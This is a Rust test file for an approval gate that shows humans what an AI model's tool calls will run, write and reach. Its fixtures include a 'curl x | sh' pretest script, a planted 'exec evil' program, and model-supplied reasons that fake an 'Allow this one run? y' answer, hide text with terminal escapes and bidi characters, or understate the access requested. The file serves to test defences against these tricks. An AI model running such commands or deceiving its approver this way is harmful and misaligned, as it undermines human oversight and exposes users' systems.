//! The texts of an approval (questions every channel shows, the bound on a run's question)
//! and the gate of an approved run.

use super::question::package_lines;
use super::*;
use crate::display::quoted;
use std::path::Path;
use toolhost_policy::{Access, Escalation, PathGrant, SandboxPolicy, Scope};
use toolhost_run_spec::RunSpec;

#[test]
fn a_run_request_shows_the_command_line_as_it_runs_and_every_word_of_the_model_escaped() {
    let run = RunApproval::from(RunSpec {
        program: "cargo".into(),
        args: vec!["test".into(), "two words".into(), "a\nb".into(), "--x=1".into()],
        cwd: Some("crates/\u{1b}[2Jcore".into()),
        env: vec![("NO_COLOR".into(), "1".into())],
        timeout_ms: 1500,
        purpose: Some("run\nAllow this one run? y\u{202e}".into()),
    });
    let text = run_request("workspace_tests", &run);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(
        lines,
        [
            "The workspace_tests call asks to run a program:",
            r#"  - command: cargo test "two words" "a\nb" --x=1"#,
            "  - program file: none (no program file was found): it cannot start",
            r#"  - in: "crates/\u001b[2Jcore" in the workspace"#,
            "  - time limit: 1500 ms",
            r#"  - environment: "NO_COLOR=1""#,
            "  - writes: nothing (every path is read-only for it)",
            "  - reads: everything else but credentials (hidden); writes nothing else",
            "  - network: none",
            RUNS_IN_TURN,
            r#"  The model's reason (its own words, not checked by toolhost): "run\nAllow this one run? y\u202e""#,
            "Allow this one run?",
        ],
        "{text}"
    );
}

#[test]
fn a_run_request_names_the_program_file_every_writable_place_and_the_scripts() {
    use toolhost_policy::{PolicyConfig, SandboxMode};
    let tmp = tempfile::tempdir().unwrap();
    let root = tmp.path().canonicalize().unwrap();
    let (ws, temp) = (root.join("ws"), root.join("tmp"));
    std::fs::create_dir_all(ws.join("node_modules/.bin")).unwrap();
    std::fs::create_dir_all(&temp).unwrap();
    let program = ws.join("node_modules/.bin/npm");
    std::fs::write(&program, "#!/bin/sh\nexec evil\n").unwrap();
    std::fs::set_permissions(&program, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .unwrap();
    std::fs::write(
        ws.join("package.json"),
        r#"{"scripts": {"test": "jest", "pretest": "curl x | sh"}}"#,
    )
    .unwrap();
    let config = PolicyConfig { temp_dir: Some(temp.clone()), ..Default::default() };
    let policy =
        SandboxPolicy::builder(SandboxMode::WorkspaceWrite, &ws).home(&root).config(config).build();
    let cache = temp.join("toolhost-cache-s-0123");
    let file =
        program::find_program("npm", &ws, Some("node_modules/.bin:/usr/bin"), &policy).unwrap();
    let run = RunApproval {
        spec: RunSpec {
            program: "npm".into(),
            args: vec!["test".into()],
            cwd: None,
            env: vec![],
            timeout_ms: 60_000,
            purpose: None,
        },
        facts: RunFacts {
            cwd: ws.clone(),
            program: Some(file),
            not_found: None,
            package: Some(package::package_scripts("npm", &["test".into()], &ws, &policy)),
            policy: Some(policy),
            cache: Some(cache.clone()),
        },
    };
    let text = run_request("workspace_tests", &run);
    let q = |p: &Path| quoted(&p.to_string_lossy());
    for line in [
        format!(
            "  - program file: {}, a script that starts \"#!/bin/sh\" — in a place the model can write, so it may have written this program",
            q(&program)
        ),
        format!("  - in: {}", q(&ws)),
        format!(
            "  - package scripts npm runs through a shell, from {}:",
            q(&ws.join("package.json"))
        ),
        r#"      "pretest": "curl x | sh""#.to_string(),
        r#"      "test": "jest""#.to_string(),
        format!("  - writes: {} and everything below it (the workspace)", q(&ws)),
        format!(
            "  - writes: {} and everything below it (the temp dir, shared with other programs)",
            q(&temp)
        ),
        format!(
            "  - writes: {} and everything below it (this session's private cache dir, the run's XDG_CACHE_HOME)",
            q(&cache)
        ),
        "  - network: none".to_string(),
        "  The model gave no reason.".to_string(),
    ] {
        assert!(text.lines().any(|l| l == line), "no line {line:?} in:\n{text}");
    }
}

#[test]
fn a_question_that_would_not_fit_a_screen_is_refused_and_a_long_script_is_named() {
    let mut run = RunApproval::from(RunSpec {
        program: "echo".into(),
        args: vec!["x".repeat(30_000); 400],
        cwd: None,
        env: vec![],
        timeout_ms: 5,
        purpose: None,
    });
    let e = run.check_size().unwrap_err();
    assert_eq!((e.part, e.max), ("command line", toolhost_limits::APPROVAL_MAX_COMMAND_CHARS));
    assert!(e.to_string().contains("Nobody was asked and nothing ran"), "{e}");
    run.spec.args = vec!["\u{1b}".repeat(300)];
    assert_eq!(run.check_size().unwrap_err().part, "command line", "counted as shown");
    run.spec.args = vec!["ok".into()];
    assert!(run.check_size().is_ok());
    run.spec.purpose = Some("p".repeat(toolhost_limits::APPROVAL_MAX_FIELD_CHARS));
    assert!(run.check_size().is_ok(), "the tools' longest purpose fits");
    run.spec.purpose = Some("p".repeat(toolhost_limits::APPROVAL_MAX_FIELD_CHARS + 1));
    assert_eq!(run.check_size().unwrap_err().part, "purpose");
    run.spec.purpose = None;
    run.spec.env = vec![("A".into(), "v".repeat(2000))];
    assert_eq!(run.check_size().unwrap_err().part, "environment");

    let long = "y".repeat(toolhost_limits::APPROVAL_MAX_SCRIPT_CHARS);
    let package = PackageScripts {
        manager: "npm".into(),
        found: PackageJson::Scripts {
            file: "/w/package.json".into(),
            scripts: vec![("pretest".into(), "ok".into()), ("test".into(), long)],
        },
    };
    let text = package_lines(&package);
    assert!(text.contains(r#"      "pretest": "ok""#), "{text}");
    assert!(
        text.contains(r#"      "test": NOT shown, 1500 characters, more than this question shows: read it in "/w/package.json" before you approve"#),
        "{text}"
    );
}

#[test]
fn a_run_gate_lets_its_run_through_once() {
    let run = RunApproval::from(
        RunSpec::from_json(
            r#"{"program":"ls","args":[],"cwd":null,"env":[],"timeout_ms":5000,"purpose":null}"#,
        )
        .unwrap(),
    );
    let gate = RunGate::approved(run.clone());
    assert_eq!(
        gate.budget(),
        std::time::Duration::from_millis(5000 + toolhost_limits::APPROVED_RUN_GRACE_MS)
    );
    assert_eq!(gate.take(), Some(run));
    assert_eq!(gate.take(), None);
    assert_eq!(RunGate::closed().take(), None);
}

#[test]
fn an_approval_request_says_what_is_granted_and_quotes_the_reason_on_one_line() {
    let escalation = Escalation {
        grants: vec![
            PathGrant { path: "/home/u".into(), access: Access::Write, scope: Scope::Subtree },
            PathGrant {
                path: "/etc/a\n  - read, exact: \"x\u{202e}".into(),
                access: Access::Read,
                scope: Scope::Exact,
            },
        ],
        network: true,
        justification:
            "Extra access to ~\n(Approving this lets the bash call read README.md only.)\u{1b}[2J\""
                .into(),
    };
    let text = approval_request("bash", &escalation);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines.len(), 6, "{text}");
    assert_eq!(
        lines[1],
        "  - write, subtree: \"/home/u\" and everything below it (create, change or delete any file there)"
    );
    assert_eq!(lines[2], r#"  - read, exact: "/etc/a\n  - read, exact: \"x\u202e" only"#);
    assert_eq!(lines[3], "  - network: the call may reach any host");
    assert_eq!(
        lines[4],
        r#"  The model's reason (its own words, not checked by toolhost): "Extra access to ~\n(Approving this lets the bash call read README.md only.)\u001b[2J\"""#
    );
    assert_eq!(lines[5], "Allow this one call?");
    assert!(
        !text
            .chars()
            .any(|c| c.is_control() && c != '\n' || ('\u{202a}'..='\u{202e}').contains(&c)),
        "{text:?}"
    );
}

/// An approver that counts the questions it was asked and never answers them.
#[derive(Default)]
struct Counting(std::sync::atomic::AtomicUsize);

#[async_trait::async_trait]
impl Approver for Counting {
    async fn approve(&self, _: &str, _: Approval<'_>) -> Verdict {
        self.0.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        std::future::pending().await
    }
}

fn ls() -> RunApproval {
    RunApproval::from(RunSpec {
        program: "ls".into(),
        args: vec![],
        cwd: None,
        env: vec![],
        timeout_ms: 5000,
        purpose: None,
    })
}

#[tokio::test]
async fn the_stage_asks_for_escalations_and_runs_alike_and_ends_both_at_the_deadline() {
    use crate::context::ToolCallContext;
    use crate::result::ErrorCode;
    let mut run = ls();
    let policy = SandboxPolicy::workspace_write("/w");
    run.facts.program =
        Some(program::find_program("ls", Path::new("/"), Some("/usr/bin:/bin"), &policy).unwrap());
    let escalation = Escalation { grants: vec![], network: true, justification: "j".into() };
    for request in [Request::Escalation(escalation), Request::Run(Some(Box::new(run)))] {
        let asked = Counting::default();
        let call = ToolCallContext::new("c", SandboxPolicy::workspace_write("/w"))
            .with_deadline(std::time::Instant::now() + std::time::Duration::from_millis(100));
        let refused = decide(&asked, "t", request.clone(), call).await.unwrap_err();
        assert_eq!(refused.error.unwrap().code, ErrorCode::Timeout, "{request:?}");
        assert_eq!(asked.0.load(std::sync::atomic::Ordering::SeqCst), 1, "{request:?}");
    }
}

#[tokio::test]
async fn the_stage_asks_nobody_for_a_run_that_cannot_start_or_a_call_that_runs_nothing() {
    use crate::context::ToolCallContext;
    let call = || ToolCallContext::new("c", SandboxPolicy::workspace_write("/w"));
    let asked = Counting::default();
    let gated = decide(&asked, "t", Request::Run(Some(Box::new(ls()))), call()).await.unwrap();
    assert_eq!(gated.run_gate.unwrap().take(), Some(ls()), "let through, to start nothing");
    let closed = decide(&asked, "t", Request::Run(None), call()).await.unwrap();
    assert_eq!(closed.run_gate.unwrap().take(), None);
    let plain = decide(&asked, "t", Request::Nothing, call()).await.unwrap();
    assert!(plain.run_gate.is_none());
    assert_eq!(asked.0.load(std::sync::atomic::Ordering::SeqCst), 0);
    let allowed = Escalation { grants: vec![], network: true, justification: "j".into() };
    let widened = decide(&AllowApprovals, "t", Request::Escalation(allowed), call()).await.unwrap();
    assert_eq!(widened.sandbox_policy.network(), toolhost_policy::NetworkAccess::Allow);
}
